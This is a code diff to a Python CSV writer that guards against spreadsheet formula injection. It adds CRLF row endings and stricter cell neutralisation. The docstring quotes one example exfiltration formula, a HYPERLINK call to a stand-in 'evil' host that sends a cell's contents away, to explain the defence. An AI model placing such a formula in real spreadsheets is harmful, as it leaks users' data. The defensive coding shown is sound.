@@ -5,8 +5,10 @@ in Excel, LibreOffice or Google Sheets, which run a cell starting with ``=``, ``
 ``-`` or ``@`` (or a tab or carriage return before one) as a formula:
 ``=HYPERLINK("http://evil/?"&A2, "click")`` sends the sheet away. Following OWASP's rule,
 :func:`write_csv` prefixes such text cells with ``'`` (shown as text, never run); plain
-numbers, negative ones included, stay numbers. :func:`restore_cell` undoes the prefix when
-we read our own files back (the grading sheet comes back through ``manual import``).
+numbers, negative ones included, stay numbers. Rows end in CRLF (RFC 4180), so a carriage
+return inside a cell is quoted rather than starting a new row of its own (pandas quotes
+only line feeds otherwise). :func:`restore_cell` undoes the prefix when we read our own
+files back (the grading sheet comes back through ``manual import``).
 """
 
 from __future__ import annotations
@@ -51,16 +53,17 @@ def write_csv(
     path.parent.mkdir(parents=True, exist_ok=True)
     if hasattr(table, "to_csv"):
         frame = table.reset_index() if index else table.copy()
-        for column in frame.columns:
-            if frame[column].dtype == object:
-                frame[column] = frame[column].map(neutral_cell)
+        for position in range(frame.shape[1]):
+            column = frame.iloc[:, position]
+            if column.dtype.kind == "O":  # object and pandas' str dtypes
+                frame.isetitem(position, column.astype(object).map(neutral_cell))
         frame.columns = [neutral_cell(str(c)) for c in frame.columns]
-        frame.to_csv(path, index=False)
+        frame.to_csv(path, index=False, lineterminator="\r\n", errors="replace")
         return path
     if columns is None:
         raise ValueError("write_csv: rows need their columns")
-    with open(path, "w", newline="", encoding="utf-8") as handle:
-        writer = csv.writer(handle)
+    with open(path, "w", newline="", encoding="utf-8", errors="replace") as handle:
+        writer = csv.writer(handle, lineterminator="\r\n")
         writer.writerow([neutral_cell(c) for c in columns])
         for row in table:
             row = row if isinstance(row, Mapping) else dict(zip(columns, row, strict=True))
